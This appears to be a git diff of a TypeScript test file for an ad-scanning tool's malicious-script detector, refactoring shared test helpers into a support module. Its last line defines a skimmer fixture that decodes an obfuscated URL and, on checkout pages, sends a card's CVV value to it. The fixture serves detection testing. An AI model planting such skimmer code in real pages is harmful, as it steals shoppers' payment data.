@@ -1,27 +1,10 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import type { CapturedBody } from '@adsweep/shared/capture/artifacts.ts';
-import type { Observation } from '@adsweep/shared/capture/observations/index.ts';
 import { matchingSignatures, SCRIPT_SIGNATURES } from '../../../src/analysis/detectors/deception/malicious-script.ts';
 import { detect } from '../../../src/analysis/detectors/detect.ts';
-import { type Evidence, NO_EVIDENCE } from '../../../src/analysis/evidence/evidence.ts';
-
-const PAGE = 'https://win.example/lp';
-type Page = { title?: string; text?: string; html?: string; url?: string };
-
-const documentOf = ({ title = '', text = '', html = '', url = PAGE }: Page) => ({
-  landing: 0,
-  frame: '',
-  url,
-  title,
-  text,
-  html,
-});
-function slugsOf(page: Page, observations: Observation[] = [], more: Partial<Evidence> = {}): string[] {
-  const { findings, failed } = detect({ ...NO_EVIDENCE, ...more, documents: [documentOf(page)], observations });
-  assert.deepEqual(failed, []);
-  return findings.map(({ tag_slug }) => tag_slug);
-}
+import { NO_EVIDENCE } from '../../../src/analysis/evidence/evidence.ts';
+import { documentOf, PAGE, slugsOf } from '../../support/detected.ts';
 
 describe('§2.5.13 malicious_script', () => {
   const SKIMMER = `const to = atob( 'aHR0cHM6Ly94' ); if (/checkout/.test(location)) fetch(to + cvv.value)`;
